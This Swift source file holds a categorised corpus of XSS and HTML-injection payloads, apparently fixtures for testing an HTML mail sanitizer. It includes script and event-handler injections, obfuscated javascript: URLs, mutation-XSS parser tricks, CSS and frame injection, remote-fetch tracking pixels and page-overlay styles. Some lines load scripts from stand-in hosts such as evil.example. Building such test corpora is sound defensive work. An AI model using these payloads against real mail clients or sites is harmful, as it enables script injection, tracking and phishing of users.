/// Shapes of attack on readers of HTML mail, each class at least once.
enum Payloads {
    static let all = scripts + addresses + styles + frames + mutations + quotes

    private static let scripts = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<script/x>alert(1)</script >", "<script>alert(1)", "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x onerror\n=\nalert(1)>",
        "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg/onload=alert(1)//",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>",
        "<p onmouseover='alert(1)'>x</p>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex action=javascript:alert(1)>", "<x onclick=alert(1)>x</x>", "<p \0onclick=alert(1)>x</p>",
    ]

    private static let addresses = [
        "<a href=javascript:alert(1)>x</a>", "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>", "<a href=\"\u{200B}javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=vbscript:x>x</a>",
        "<a href=blob:x>x</a>",
        "<a href=\"http:javascript:alert(1)\">x</a>", "<a href=\"https:///x\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=http://a.example href=javascript:alert(1)>x</a>", "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img srcset=\"https://x.example/a 1x\">",
        "<img src=\"//x.example/a.png\">", "<img src=cid:a>", "<img src=cid:none>", "<img lowsrc=https://x.example/a>",
        "<table background=https://x.example/a><tr><td background=javascript:alert(1)>x</table>",
        "<a href=\"https://x.example/\" target=_self rel=opener ping=https://y.example>x</a>",
    ]

    private static let styles = [
        "<style>@import 'https://x.example/a.css';</style>", "<style>body{background:url(https://x.example/a)}",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
        "<p style=\"background:url(https://x.example/a)\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"behavior:url(x)\">x</p>", "<p style='font-family:\"</style><script>alert(1)</script>\"'>x</p>",
        "<link rel=stylesheet href=https://x.example/a.css>", "<p class=button-primary id=delete name=forms>x</p>",
        "</style><img src=x onerror=alert(1)>",
    ]

    private static let frames = [
        "<base href=https://x.example/>", "<meta http-equiv=refresh content=\"0;url=https://x.example\">",
        "<form action=https://x.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=javascript:alert(1)></frameset>", "<object data=javascript:alert(1)>x</object>",
        "<embed src=https://x.example/a.swf>", "<applet code=x>x</applet>",
        "<template><script>alert(1)</script></template>",
        "<select><option><img src=x onerror=alert(1)></select>", "<textarea><img src=x onerror=alert(1)></textarea>",
        "<noscript><img src=x onerror=alert(1)></noscript>", "</div></body></html><script>alert(1)</script>",
        "<portal src=https://x.example>", "<dialog open>x</dialog>", "<slot name=a>x</slot>",
    ]

    /// What one parser reads as text and the next as a tag.
    private static let mutations = [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->", "<!--> --!><img src=x onerror=alert(1)>",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml <img src=x onerror=alert(1)>?>",
        "</ <img src=x onerror=alert(1)>>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<a title=\"<img src=x onerror=alert(1)>\" alt='`><img src=x onerror=alert(1)>'>x</a>",
        "<img alt=\"``onerror=alert(1)\" src=https://x.example/a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<b><table><td><b><i><table>x", "<p data-t=script>x</p>", "<span data-t=\"img onerror=alert(1)\">x</span>",
        "<label data-t=script href=javascript:alert(1)>x</label>",
        "<dfn data-t=\"a\" href=\"javascript:alert(1)\">x</dfn>",
        "<plaintext><img src=x onerror=alert(1)>", "<a href=\"https://x.example/\"\"onmouseover=alert(1)//\">x</a>",
    ]

    /// A quote and a mark after it are one letter to careless escapers.
    private static let quotes = ["\u{301}", "\u{64B}", "\u{338}", "\u{200D}", "\u{FE0F}"].flatMap { mark in
        [
            "<a href=\"https://x.example/&quot;\(mark) onmouseover=alert(1) x=&quot;\(mark)\">x</a>",
            "<img src=https://x.example/a alt=\"&quot;\(mark)&gt;\(mark)&lt;\(mark)script&gt;\">",
            "&lt;\(mark)script&gt;\(mark)alert(1)", "<p dir=\"&quot;\(mark)onclick=x\" lang=\"'\(mark)\">x</p>",
        ]
    }

    /// Tags, handlers and addresses in all combinations.
    static let combined: [String] = {
        let tags = [
            "a", "p", "img", "svg", "math", "div", "td", "body", "video", "input", "details", "marquee", "x", "font",
            "bdo",
        ]
        let handlers = [
            "onload", "onerror", "onclick", "onfocus", "onpointerenter", "ontoggle", "onbeforeinput", "ONMOUSEOVER",
            "on\u{0}click", "/onclick",
        ]
        let disguises = [
            "javascript:x()", "JAVASCRIPT:x()", " javascript:x()", "java\tscript:x()", "java&#9;script:x()",
            "&#x6a;avascript:x()",
            "javascript&colon;x()", "\u{1}javascript:x()", "java\u{AD}script:x()", "//evil.example/x",
            "\\\\evil.example", "data:text/html,x",
            "vbscript:x", "blob:x", "view-source:x", "jar:x", "filesystem:x", "ftp://x.example", "cid:none",
            "about:blank", "https:x", "http:\\\\x",
        ]
        let holders = [
            "<a href=\"%\">x</a>", "<img src=\"%\">", "<form action=\"%\">", "<iframe src=\"%\">",
            "<object data=\"%\">", "<base href=\"%\">", "<area href=\"%\">",
        ]
        let events = tags.flatMap { tag in handlers.map { "<\(tag) \($0)=alert(1) src=x autofocus open>x</\(tag)>" } }
        let addresses = holders.flatMap { holder in
            disguises.map { disguise in
                let halves = holder.split(separator: "%", omittingEmptySubsequences: false)
                return halves.joined(separator: disguise)
            }
        }
        return events + addresses
    }()

    /// Ways to fetch something.
    static let remote: [String] = [
        "<img src=http://e.example/a.gif>", "<img src=//e.example/a>", "<img srcset=\"https://e.example/a 2x\">",
        "<picture><source srcset=https://e.example/a><img></picture>",
        "<table background=https://e.example/a><tr><td background=https://e.example/b>x</table>",
        "<body background=https://e.example/a>x",
        "<p style=\"background:url(https://e.example/a)\">x</p>",
        "<style>@import url(https://e.example/a);p{background:url(//e.example/b)}</style>x",
        "<link rel=stylesheet href=https://e.example/a>",
        "<link rel=prefetch href=https://e.example/a><link rel=dns-prefetch href=//e.example>",
        "<video poster=https://e.example/a src=https://e.example/b></video>",
        "<audio src=https://e.example/a autoplay>", "<iframe src=https://e.example></iframe>",
        "<object data=https://e.example/a></object>", "<embed src=https://e.example/a>",
        "<input type=image src=https://e.example/a>", "<svg><image href=https://e.example/a /></svg>",
        "<svg><use href=https://e.example/a#b /></svg>",
        "<meta http-equiv=refresh content=\"0;url=https://e.example\">", "<script src=https://e.example/a></script>",
        "<img src=https://e.example/t.gif width=1 height=1>",
        "<img lowsrc=https://e.example/a dynsrc=https://e.example/b>",
        "<font face=\"x;src:url(https://e.example)\">x</font>",
        "<math><mglyph src=https://e.example/a></math>", "<img src=\"cid:unknown\">",
        "<a href=https://e.example ping=https://e.example/p>x</a>",
    ]

    /// Ways out of the mail's own box.
    static let boxes: [String] = [
        "<div style=\"position:fixed;inset:0;z-index:9999\">x</div>",
        "<div style='position:absolute;top:-900px'>x</div>", "<p class=button id=delete name=forms>x</p>",
        "<div style=\"margin:-999px\">x</div>", "<span style=\"transform:scale(99)\">x</span>",
        "<div popover id=a>x</div><button popovertarget=a>y</button>",
        "</div></div></body></html><div style=position:fixed>x</div>", "<dialog open style=position:fixed>x</dialog>",
        "<p hidden slot=a>x</p>",
        "<style>*{display:none}</style>x", "<div style=\"animation:a 1s;--x:expression(1)\">x</div>",
        "<table style=\"position:sticky\"><tr><td id=x>y</table>",
        "<a href=https://e.example style=\"display:block;position:fixed;inset:0\">x</a>",
        "<img src=https://e.example/a style=\"position:fixed\" class=c id=i>",
    ]
}
